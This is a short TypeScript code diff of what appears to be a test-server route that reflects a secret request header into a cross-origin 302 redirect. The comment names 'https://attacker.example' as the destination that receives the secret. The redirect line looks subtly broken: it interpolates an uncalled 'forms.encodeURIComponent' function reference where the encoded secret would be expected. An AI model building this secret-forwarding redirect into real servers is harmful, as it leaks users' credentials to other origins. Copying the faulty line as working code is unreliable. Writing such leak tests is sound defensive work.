@@ -74,10 +74,10 @@ function safeDecode(s: string): string {
 const TOKEN = /^[!#$%&'*+\-.^_`|~0-9A-Za-z]+$/;
 
 /**
- * Handles `/hh03/...`; false for any other path. `httpsPort` is the HTTPS port of the same
- * server (the redirects name another origin on it).
+ * Handles `/hh03/...`; false for any other path. `otherOrigin` (like `https://attacker.example:443`)
+ * is where `/hh03/bounce` sends the secret on.
  */
-export function reflectRoute(req: http.IncomingMessage, res: http.ServerResponse, httpsPort: number): boolean {
+export function reflectRoute(req: http.IncomingMessage, res: http.ServerResponse, otherOrigin: string): boolean {
   const u = new URL(req.url ?? '/', 'http://x');
   if (!u.pathname.startsWith('/hh03/')) return false;
   const v = secretOf(req);
@@ -105,7 +105,7 @@ export function reflectRoute(req: http.IncomingMessage, res: http.ServerResponse
     case '/hh03/bounce':
       // Reflects the header into a redirect to another origin.
       res.statusCode = 302;
-      res.setHeader('location', `https://attacker.example:${httpsPort}/hh03/landing?k=${forms.encodeURIComponent}`);
+      res.setHeader('location', `${otherOrigin}/hh03/landing?k=${forms.encodeURIComponent}`);
       res.end(`moved: ${v}`);
       return true;
     case '/hh03/open': {
